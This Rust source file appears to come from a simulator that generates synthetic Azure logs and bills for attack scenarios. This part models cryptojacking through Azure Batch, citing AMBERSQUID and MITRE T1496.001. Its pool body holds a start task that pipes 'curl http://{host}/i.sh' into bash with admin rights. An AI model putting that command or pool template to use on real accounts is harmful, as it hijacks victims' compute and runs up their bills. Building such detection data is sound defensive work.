//! Pools of Azure Batch.

use serde_json::json;

use super::hasty_name;
use super::worker::{Worker, entry, found_after};
use crate::catalog::{Region, meter};
use crate::estate::{Rhythm, address};
use crate::scenario::Stage;
use crate::script::Failure;

/// A size of nodes: meter, size, whether it is spare capacity.
const NODES: [(&str, &str, bool); 4] = [
    ("batch-compute", "STANDARD_F72S_V2", true),
    ("batch-compute", "STANDARD_F72S_V2", true),
    ("batch-dedicated", "STANDARD_F72S_V2", false),
    ("batch-gpu", "STANDARD_NC64AS_T4_V3", true),
];

/// Accounts of Batch in several unused regions, each with pools of many nodes whose start task fetches
/// the miner. Services beside machines are taken because nobody watches them: AMBERSQUID (Sysdig,
/// September 2023); MITRE T1496.001. The bill comes to the account.
pub(crate) fn batch_pools(stage: &mut Stage<'_>) {
    let caller = entry(stage);
    let mut worker = Worker::new(stage, caller);
    if stage.dice.chance(0.6) {
        let provider = stage.subscription.of_whole("Microsoft.Batch");
        let register = worker.act(stage, "Microsoft.Batch/register/action", provider);
        stage.script.actions.push(register);
    }
    let group = hasty_name(stage);
    worker.makes_group(stage, &group);
    let nodes = stage.dice.pick(&NODES);
    let region_count = stage.dice.between(2, 6) as usize;
    let refused_share = stage.dice.real(0.0, 0.4);
    let reads_keys = stage.dice.chance(0.5);
    for (number, region) in stage.unused_regions(region_count).into_iter().enumerate() {
        let name = format!("b{:07x}", stage.dice.below(1 << 28));
        let account = stage.subscription.resource(&group, "Microsoft.Batch/batchAccounts", &name);
        let body = json!({
            "location": region.id,
            "properties": {"poolAllocationMode": "BatchService", "publicNetworkAccess": "Enabled"},
        });
        let create = worker
            .act(stage, "Microsoft.Batch/batchAccounts/write", account.clone())
            .accepted(true, &mut stage.dice)
            .echoed(&body, "Microsoft.Batch/batchAccounts");
        if number > 1 && stage.dice.chance(refused_share) {
            stage.script.actions.push(create.failed(Failure::batch_accounts()));
            continue;
        }
        stage.script.actions.push(create);
        if reads_keys {
            worker.does(stage, "Microsoft.Batch/batchAccounts/listKeys/action", &account);
        }
        let pools = stage.dice.between(1, 3);
        let count: i64 = (0..pools).map(|_| pool(stage, &mut worker, &account, nodes)).sum();
        bill(stage, &worker, (&group, &name), (region, nodes.0), count);
    }
    found_after(stage, 16, 130);
}

/// Makes a pool and says how many nodes it has.
fn pool(
    stage: &mut Stage<'_>,
    worker: &mut Worker,
    account: &str,
    (_, size, is_spare): (&str, &str, bool),
) -> i64 {
    worker.wait(stage, 20.0, 200.0);
    let count = stage.dice.between(4, 40);
    let (dedicated, spare) = if is_spare { (0, count) } else { (count, 0) };
    let host = address::hostile(&mut stage.dice);
    let body = json!({
        "properties": {
            "vmSize": size,
            "interNodeCommunication": "Disabled",
            "taskSlotsPerNode": 1,
            "deploymentConfiguration": {"virtualMachineConfiguration": {
                "imageReference": {
                    "publisher": "microsoft-dsvm", "offer": "ubuntu-hpc", "sku": "2204", "version": "latest",
                },
                "nodeAgentSkuId": "batch.node.ubuntu 22.04",
            }},
            "scaleSettings": {"fixedScale": {
                "targetDedicatedNodes": dedicated,
                "targetLowPriorityNodes": spare,
                "resizeTimeout": "PT15M",
            }},
            "startTask": {
                "commandLine": format!("/bin/bash -c \"curl -s http://{host}/i.sh | bash\""),
                "userIdentity": {"autoUser": {"scope": "pool", "elevationLevel": "admin"}},
                "waitForSuccess": false,
            },
        },
    });
    let resource = format!("{account}/pools/p{}", stage.dice.between(1, 9_999));
    stage.uses(&resource);
    let create = worker
        .act(stage, "Microsoft.Batch/batchAccounts/pools/write", resource)
        .accepted(true, &mut stage.dice)
        .echoed(&body, "Microsoft.Batch/batchAccounts/pools");
    stage.script.actions.push(create);
    count
}

fn bill(
    stage: &mut Stage<'_>,
    worker: &Worker,
    (group, account): (&str, &str),
    (region, meter_key): (&'static Region, &str),
    nodes: i64,
) {
    let used_share = stage.dice.real(0.6, 1.0);
    let per_day = nodes as f64 * 24.0 * used_share;
    let mut usage = stage.subscription.usage(meter(meter_key), group, account, per_day, stage.forever());
    usage.from = worker.at + stage.dice.seconds(300.0, 1_200.0);
    usage.region = region;
    usage.rhythm = Rhythm::Flat;
    usage.noise = stage.dice.real(0.01, 0.1);
    stage.script.usages.push(usage);
}
